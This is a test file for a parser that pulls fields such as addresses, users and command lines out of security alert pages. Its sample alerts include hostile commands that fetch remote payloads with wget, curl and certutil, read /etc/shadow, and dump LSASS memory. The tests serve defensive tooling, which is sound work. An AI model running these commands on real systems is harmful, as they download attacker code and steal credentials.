import { describe, expect, it } from 'vitest';
import { outlineOfHtml } from '../../../companion/cli/saved-outline.ts';
import { readingTools } from '../../../lib/page/reading-tools.ts';
import { survey } from '../../../lib/page/survey.ts';

const looked = (html: string) => survey(outlineOfHtml(`<body>${html}</body>`), undefined, readingTools);
/** What is read under these names. */
const read = (html: string, ...paths: string[]) => {
  const { fields } = looked(html);
  return Object.fromEntries(
    paths.map((path) => [path, fields.flatMap((one) => (one.path === path ? [one.value] : [])).join(' | ')]),
  );
};
const kind = (html: string) => looked(html).shows;

describe('alerts that are told in running text', () => {
  it.each([
    [
      'a connection as a sensor writes it',
      'CRITICAL - [1:9000412:3] CnC beacon {TCP} 10.30.4.71:50112 -> 198.51.100.9:8443',
      { 'source.ip': '10.30.4.71', 'destination.ip': '198.51.100.9', 'destination.port': '8443' },
    ],
    [
      'a log line of the SSH daemon',
      'Nov 26 03:41:19 web03 sshd[30112]: Accepted password for deploy from 203.0.113.66 port 40112 ssh2',
      { 'host.name': 'web03', 'process.name': 'sshd', 'user.name': 'deploy', 'source.ip': '203.0.113.66' },
    ],
    [
      'a line of sudo',
      'Nov 26 03:41:20 web03 sudo: backup : TTY=pts/1 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/wget -q http://203.0.113.66/m',
      { 'user.name': 'backup', 'process.command_line': '/usr/bin/wget -q http://203.0.113.66/m' },
    ],
    [
      'keys and values of a firewall',
      'kernel: DROP IN=eth0 OUT= SRC=198.51.100.77 DST=192.0.2.21 PROTO=TCP SPT=50999 DPT=3389',
      { 'source.ip': '198.51.100.77', 'destination.ip': '192.0.2.21', 'destination.port': '3389' },
    ],
    [
      'a mail of OSSEC',
      'Received From: (db04) 10.60.1.44->/var/log/auth.log Rule: 5720 fired (level 10) -> "Multiple SSHD authentication failures." Src IP: 203.0.113.9',
      { 'host.name': 'db04', 'rule.name': 'Multiple SSHD authentication failures.' },
    ],
  ])('%s', (_, text, values) => {
    const page = `<main><h1>Service check of the night</h1><p>${text.replace('>', '&gt;')}</p></main>`;
    expect(kind(page)).toBe('alert');
    expect(read(page, ...Object.keys(values))).toEqual(values);
  });

  it('are no log of many, and no address of the machine that shows it', () => {
    const line = (host: string, user: string) =>
      `<p>Nov 26 03:41:19 ${host} sshd[30112]: Accepted password for ${user} from 203.0.113.66 port 40112 ssh2</p>`;
    const log = [
      '<p>Nov 26 03:40:01 web01 cron[7]: job for backup</p>',
      '<p>a process "/usr/bin/curl" by user=ana</p>',
      '<p>10.0.0.1:4 -&gt; 192.0.2.1:5 and more</p>',
      line('web02', 'bob'),
    ].join('');
    expect(kind(`<main><h1>Log of tonight</h1>${log}</main>`)).toBe('none');
    expect(
      kind('<main><h1>Page of the wiki</h1><p>changed at 2026-11-26 03:41:19 by 127.0.0.1 on host wiki-1</p></main>'),
    ).toBe('none');
  });

  it('hold a command line where a key says so, and not where a sentence quotes one', () => {
    const page = (text: string) =>
      `<main><h1>Tool started</h1><dl><dt>Host</dt><dd>WS-042</dd><dt>User</dt><dd>ana</dd></dl><p>${text}</p></main>`;
    expect(
      read(page("exec by uid=1003 exe=/usr/bin/curl cmd='curl -s http://203.0.113.201/k'"), 'process.command_line'),
    ).toEqual({
      'process.command_line': 'curl -s http://203.0.113.201/k',
    });
    expect(read(page("User ana ran the command '/bin/cat /etc/shadow' as root."), 'process.command_line')).toEqual({
      'process.command_line': '',
    });
  });

  it('come below what a label says, and one for each', () => {
    const page = `<main><h1>Beacon seen</h1><dl><dt>Host</dt><dd>WS-042</dd><dt>User</dt><dd>ana</dd></dl>
      <p>The user bob.smith on SRV-9-1 sent it from 10.0.0.9.</p></main>`;
    expect(read(page, 'host.name', 'user.name', 'source.ip')).toEqual({
      'host.name': 'WS-042',
      'user.name': 'ana',
      'source.ip': '10.0.0.9',
    });
  });
});

describe('records in forms', () => {
  const row = (label: string, value: string) =>
    `<tr><th>${label}</th><td><input name="f[${label}]" value="${value}"></td></tr>`;
  const record = [
    ['rule_name', 'LSASS memory read'],
    ['host', 'SRV-APP-09'],
    ['user_name', 'CORP\\svc_deploy'],
    ['src_ip', '10.40.8.9'],
    ['received', '2026-11-25 22:31:50'],
    ['command_line', 'pd64.exe -ma lsass.exe'],
    ['process', 'C:\\Users\\Public\\pd64.exe'],
  ] as const;

  it('are read where there is as much in them as in an alert', () => {
    const page = `<h2>Edit: alerts</h2><form><table>${record.map(([label, value]) => row(label, value)).join('')}</table></form>`;
    expect(kind(page)).toBe('alert');
    expect(read(page, 'rule.name', 'host.name', 'source.ip')).toEqual({
      'rule.name': 'LSASS memory read',
      'host.name': 'SRV-APP-09',
      'source.ip': '10.40.8.9',
    });
  });

  it('are no settings, no search and no secret', () => {
    expect(
      kind(
        `<h1>Connect</h1><form><table>${row('Server', 'irc.corp.example')}${row('Port', '6667')}${row('Username', 'ana')}</table></form>`,
      ),
    ).toBe('none');
    const page = `<h1>Beacon seen</h1><dl><dt>User</dt><dd>ana</dd><dt>Source IP</dt><dd>192.0.2.7</dd></dl>
      <label for="q">Host</label><input id="q" name="search" value="WS-1"><label for="p">Command line</label><input id="p" type="password" value="x y">`;
    expect(read(page, 'host.name', 'process.command_line')).toEqual({ 'host.name': '', 'process.command_line': '' });
  });
});

describe('tables', () => {
  it('that hold each value in a row below its label are pairs', () => {
    const cell = (label: string, value: string) =>
      `<tr><td class="title">${label}</td><td class="note"></td></tr><tr><td class="value" colspan="2">${value}</td></tr>`;
    const page = `<h3>cn=ALR-1</h3><table>${cell('alertRule', 'Ransom note created on share')}${cell('hostName', 'nas-03')}${cell('sourceAddress', '10.31.6.140')}${cell('alertSeverity', 'Critical')}</table>`;
    expect(read(page, 'rule.name', 'host.name', 'source.ip', 'event.severity')).toEqual({
      'rule.name': 'Ransom note created on share',
      'host.name': 'nas-03',
      'source.ip': '10.31.6.140',
      'event.severity': 'Critical',
    });
  });

  it('that lay out a page are gone through, whatever is nested in them', () => {
    const inner = `<table><tr><td class="l">Username</td><td class="v">kiosk3</td><td class="l">Domain</td><td class="v">Default</td></tr>
      <tr><td class="l">Magnitude</td><td class="v" colspan="3"><b>Relevance</b> 6 <b>Severity</b> 8</td></tr>
      <tr><td class="l">Source IP</td><td class="v">172.16.40.3</td><td class="l">Machine ID (custom)</td><td class="v">HQ-KIOSK-3</td></tr></table>`;
    const page = `<table><tr><td>${inner}<p>${'Words that fill the cell. '.repeat(12)}</p></td><td><a href="#">Back</a></td></tr></table>`;
    expect(read(page, 'user.name', 'source.ip', 'host.name')).toEqual({
      'user.name': 'kiosk3',
      'source.ip': '172.16.40.3',
      'host.name': 'HQ-KIOSK-3',
    });
  });

  it('of one row, and of rows with heads of their own, are one record', () => {
    const one = `<table><thead><tr><td>Modify</td><th>src_ip</th><th>dst_ip</th><th>user_name</th></tr></thead>
      <tbody><tr><td><a href="#">edit</a></td><td>10.40.2.131</td><td>198.51.100.72</td><td>CORP\\p.hollis</td></tr></tbody></table>`;
    const notebook = `<table><thead><tr><th></th><th>value</th></tr></thead><tbody><tr><th>src_ip</th><td>10.40.2.131</td></tr>
      <tr><th>dest_ip</th><td>198.51.100.72</td></tr><tr><th>user</th><td>CORP\\p.hollis</td></tr></tbody></table>`;
    for (const page of [one, notebook])
      expect(read(page, 'source.ip', 'destination.ip', 'user.name')).toEqual({
        'source.ip': '10.40.2.131',
        'destination.ip': '198.51.100.72',
        'user.name': 'CORP\\p.hollis',
      });
  });
});

describe('what is said again and again', () => {
  it('is a stream of alerts and not one', () => {
    const line = (severity: string, host: string, ip: string) =>
      `<div><p>severity: ${severity}</p><p>host: ${host}</p><p>src: ${ip}</p></div>`;
    const few = `<main>${line('high', 'WS-1', '10.0.0.1')}</main>`;
    const many = `<main>${line('high', 'WS-1', '10.0.0.1')}${line('low', 'WS-2', '10.0.0.2')}${line('medium', 'WS-3', '10.0.0.3')}</main>`;
    expect(kind(few)).toBe('alert');
    expect(kind(many)).toBe('queue');
  });

  it('claims nothing where there is no alert', () => {
    const page = '<main><h1>Welcome back</h1><dl><dt>User</dt><dd>ana</dd></dl></main>';
    expect(kind(page)).toBe('none');
    expect(looked(page).fields).toEqual([{ path: 'User', label: 'User', value: 'ana' }]);
  });
});

describe('roles that a label alone does not tell', () => {
  it('a device that sees a connection is not its machine', () => {
    const ends = '<dt>Source IP</dt><dd>198.51.100.46</dd><dt>Destination IP</dt><dd>10.1.5.20</dd>';
    expect(
      read(`<h1>Exploit blocked</h1><dl>${ends}<dt>Device name</dt><dd>FW-PREF-01</dd></dl>`, 'host.name'),
    ).toEqual({
      'host.name': '',
    });
    expect(
      read(
        `<h1>Malware found</h1><dl>${ends}<dt>Device name</dt><dd>WS-042</dd><dt>Process</dt><dd>a.exe</dd></dl>`,
        'host.name',
      ),
    ).toEqual({ 'host.name': 'WS-042' });
  });

  it('a program with what it was started with is a command line', () => {
    const page = (value: string) =>
      `<h1>Tool started</h1><dl><dt>Host</dt><dd>WS-042</dd><dt>Process</dt><dd>${value}</dd></dl>`;
    expect(
      read(page('certutil -urlcache -f http://198.51.100.23/l.bin'), 'process.command_line', 'process.name'),
    ).toEqual({
      'process.command_line': 'certutil -urlcache -f http://198.51.100.23/l.bin',
      'process.name': 'certutil',
    });
    expect(read(page('C:\\Program Files\\7-Zip\\7zFM.exe'), 'process.command_line', 'process.name')).toEqual({
      'process.command_line': '',
      'process.name': '7zFM.exe',
    });
  });

  it('chips have labels of their own, and nothing is no value', () => {
    const page = `<h1>Login after guessing</h1><dl><dt>Labels</dt><dd><span>src_ip="203.0.113.87"</span> <span>user="deploy"</span></dd>
      <dt>Post NAT source IP</dt><dd>0.0.0.0</dd><dt>Rule</dt><dd>true</dd></dl>`;
    expect(read(page, 'source.ip', 'user.name', 'rule.name')).toEqual({
      'source.ip': '203.0.113.87',
      'user.name': 'deploy',
      'rule.name': 'Login after guessing',
    });
  });

  it('a mail’s subject is no rule', () => {
    const page =
      '<h1>Unpaid fee 88213</h1><dl><dt>From</dt><dd>a@b.example</dd><dt>To</dt><dd>c@d.example</dd><dt>Subject</dt><dd>Unpaid fee 88213</dd></dl>';
    expect(read(page, 'email.subject', 'rule.name')).toEqual({ 'email.subject': 'Unpaid fee 88213', 'rule.name': '' });
  });
});
